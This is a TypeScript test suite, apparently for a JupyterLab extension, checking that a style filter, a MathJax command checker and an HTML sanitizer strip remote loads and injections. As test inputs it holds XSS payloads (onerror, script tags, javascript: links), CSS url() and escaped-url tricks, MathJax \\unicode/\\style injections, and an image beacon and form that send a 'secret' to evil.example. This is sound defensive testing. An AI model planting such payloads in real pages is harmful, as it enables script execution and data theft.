import { Sanitizer } from '@jupyterlab/apputils/lib/sanitizer';
import type { IRenderMime } from '@jupyterlab/rendermime';
import { restyle } from '../../src/panel/allowedStyles';
import { withoutRemoteContent } from '../../src/panel/sanitizer';
import { asideTypesetter, isOnlyMathematics } from '../../src/panel/typesetter';

function element(tag: string, style: string): HTMLElement {
  const made = document.createElement(tag);
  made.setAttribute('style', style);
  return made;
}

function sanitizeStyle(style: string, tag = 'p'): string {
  const made = element(tag, style);
  restyle(made);
  return made.getAttribute('style') ?? '';
}

describe('restyle', () => {
  it.each([
    'color: red;',
    'color: rgb(255, 0, 0);',
    'background-color: rgba(0, 0, 0, 0.5);',
    'font-size: 120%;',
    'font-family: "Courier New", monospace;',
    'width: 2.5em; height: 3px; min-width: 50%;',
    'margin-left: -0.2em; padding-top: 1px;',
    'vertical-align: -0.25em;',
    'text-align: right; white-space: nowrap;',
    'border-top-width: 1px; border-top-style: solid; border-top-color: red;'
  ])('keeps %s', style => {
    expect(sanitizeStyle(style)).toBe(style);
  });

  it.each([
    'background: url(http://a.b/c)',
    'background-color: red url(http://a.b/c)',
    'background-image: url(http://a.b/c)',
    'background: u\\72l(http://a.b/c)',
    'background-image: image-set("http://a.b/c" 1x)',
    'list-style-image: url(http://a.b/c)',
    'border-image-source: url(http://a.b/c)',
    'cursor: url(http://a.b/c), auto',
    'content: url(http://a.b/c)',
    '--x: url(http://a.b/c)',
    'color: var(--x)',
    'width: var(--x)',
    'width: calc(1px + 1px)',
    'width: attr(x)',
    'position: absolute',
    'position: fixed; top: 0px; left: 0px',
    'transform: translate(-2000px)',
    'z-index: 9',
    'animation-name: x'
  ])('drops %s', style => {
    expect(sanitizeStyle(style)).toBe('');
  });

  it('leaves the rest, and lets nobody shout over the page', () => {
    expect(sanitizeStyle('color: red !important; background: url(x); width: 1em')).toBe(
      'color: red; width: 1em;'
    );
  });

  it('lets MathJax place the pieces of a formula, and nothing leave it', () => {
    const placed = 'position: relative; top: 0.2em; left: -0.1em;';
    expect(sanitizeStyle(placed, 'mjx-mo')).toBe(placed);
    const turned = 'transform: rotate(-0.7rad) translateY(0.03em);';
    expect(sanitizeStyle(turned, 'mjx-dstrike')).toBe(turned);
    expect(sanitizeStyle('position: fixed', 'mjx-mo')).toBe('');
    expect(sanitizeStyle('transform: var(--x)', 'mjx-mo')).toBe('');
    expect(sanitizeStyle('background: url(x)', 'mjx-mo')).toBe('');
  });

  it('is the last that happens to a text', () => {
    const { sanitize } = withoutRemoteContent({ sanitize: dirty => dirty });
    expect(sanitize('<p style="color:red;background:url(x);position:fixed">x</p>')).toBe(
      '<p style="color: red;">x</p>'
    );
  });
});

describe('isOnlyMathematics', () => {
  it.each([
    '$\\frac{1}{2}\\sqrt{x}\\color{red}{y}\\text{for all } z$',
    '$\\begin{pmatrix}1&2\\\\3&4\\end{pmatrix}\\left(x\\right)$',
    '\\begin{aligned}a&=b\\\\c&=d\\end{aligned}',
    '$\\colorbox{yellow}{x}\\bbox[5px,yellow]{y}\\cancel{z}$',
    '$\\unicodes \\classes \\deff \\lets \\styles$',
    'It costs $5: not more.'
  ])('takes %s', text => {
    expect(isOnlyMathematics(text)).toBe(true);
  });

  it.each([
    '$\\unicode[Arial;background:url(x)]{x41}$',
    '$\\unicode{x41}$',
    '\\\\\\unicode',
    '$\\let\\x=\\frac$',
    '$\\def\\x{y}$',
    '$\\gdef\\x{y}$',
    '$\\newcommand{\\x}{y}$',
    '$\\renewcommand*{\\x}{y}$',
    '$\\newenvironment{x}{y}{z}$',
    '$\\DeclareMathOperator{\\x}{y}$',
    '$\\Newextarrow{\\x}{1,1}{8594}$',
    '$\\require{html}$',
    '$\\style{color:red}{x}$',
    '$\\class{x}{y}$',
    '$\\cssId{x}{y}$',
    '$\\mmlToken{mi}[style="color:red"]{x}$',
    '$\\href{http://a.b}{x}$',
    '$\\bbox[border:1px solid red]{x}$'
  ])('refuses %s', text => {
    expect(isOnlyMathematics(text)).toBe(false);
  });
});

/** Shows each text that it gets with a style that loads something. */
class Careless implements IRenderMime.ILatexTypesetter {
  readonly seen: string[] = [];
  readonly inPage: boolean[] = [];

  typeset(host: HTMLElement): void {
    const walker = document.createTreeWalker(host, NodeFilter.SHOW_TEXT);
    const texts: Text[] = [];
    while (walker.nextNode()) {
      texts.push(walker.currentNode as Text);
    }
    for (const text of texts) {
      this.seen.push(text.data);
      this.inPage.push(host.isConnected);
      const formula = element('mjx-container', 'background-image: url(http://a.b/c); color: red');
      formula.textContent = text.data;
      text.replaceWith(formula);
    }
  }
}

describe('asideTypesetter', () => {
  const { body } = document;

  async function typeset(html: string): Promise<Careless> {
    const careless = new Careless();
    body.innerHTML = html;
    const filter = (root: HTMLElement): void => root.querySelectorAll('*').forEach(restyle);
    await asideTypesetter(careless, filter).typeset(body);
    return careless;
  }

  it('shows what is typeset once it is filtered', async () => {
    const { inPage, seen } = await typeset('<p>$x$</p>');
    expect(seen).toEqual(['$x$']);
    expect(inPage).toEqual([false]);
    expect(body.innerHTML).toBe('<p><mjx-container style="color: red;">$x$</mjx-container></p>');
  });

  it('leaves alone what has no formula', async () => {
    body.innerHTML = '<p>x</p>';
    const before = body.firstChild;
    await asideTypesetter(new Careless(), () => undefined).typeset(body);
    expect(body.firstChild).toBe(before);
  });

  it.each([
    '<p>$\\unicode[Arial]{x41}$</p>',
    '<code class="mathjax_process">$\\unicode[Arial]{x41}$</code>',
    '<p>$\\uni<!-- -->code{x41}$</p>',
    '<p>$\\uni<wbr>code{x41}$</p>'
  ])('shows %s as it is written', async html => {
    const { seen } = await typeset(html);
    expect(seen).toEqual([]);
    expect(body.textContent).toMatch(/^\$\\unicode.*x41}\$$/);
    expect(body.innerHTML).not.toContain('mjx');
  });

  it('typesets the other texts', async () => {
    const { seen } = await typeset('<p>$x$</p><p>$\\def\\x{y}$</p><p>$z$</p>');
    expect(seen).toEqual(['$x$', '$z$']);
    expect(body.textContent).toBe('$x$$\\def\\x{y}$$z$');
  });
});

describe('withoutRemoteContent', () => {
  const { sanitize } = withoutRemoteContent(new Sanitizer());

  it('makes links of pictures from elsewhere', () => {
    const html = sanitize('<p>see <img src="https://evil.example/?q=secret" alt="a plot"></p>');
    expect(html).not.toContain('<img');
    expect(html).toContain('>a plot</a>');
  });

  it.each([
    '<img src="x" onerror="alert(1)">',
    '<video poster="https://evil.example/p"></video>',
    '<img srcset="https://evil.example/p 2x">',
    '<script>alert(1)</script>',
    '<a href="javascript:alert(1)">x</a>',
    '<iframe src="https://evil.example"></iframe>'
  ])('leaves nothing that loads or runs in %s', dirty => {
    expect(sanitize(dirty)).not.toMatch(/src|poster|script|onerror|iframe/i);
  });

  it.each([
    '<button data-commandlinker-command="runmenu:run-all">Go on</button>',
    '<form action="https://evil.example"><label>Go <input name="key"></label>on</form>',
    '<select><option>Go on</option></select>',
    '<p accesskey="s">Go on</p>'
  ])('leaves only the words of %s', dirty => {
    const html = sanitize(dirty);
    expect(html).not.toMatch(/command|button|form|input|select|option|accesskey/i);
    expect(html.replace(/<[^>]*>/g, '')).toBe('Go on');
  });

  it('leaves no style that loads something or covers something', () => {
    const html = sanitize(
      '<p style="color: red; background: url(https://evil.example/p); position: absolute; top: 0">x</p>'
    );
    expect(html).toBe('<p style="color: red;">x</p>');
  });

  it('keeps pictures that carry their content', () => {
    const picture = '<img src="data:image/png;base64,AAAA" />';
    expect(sanitize(picture)).toContain('data:image/png');
  });
});
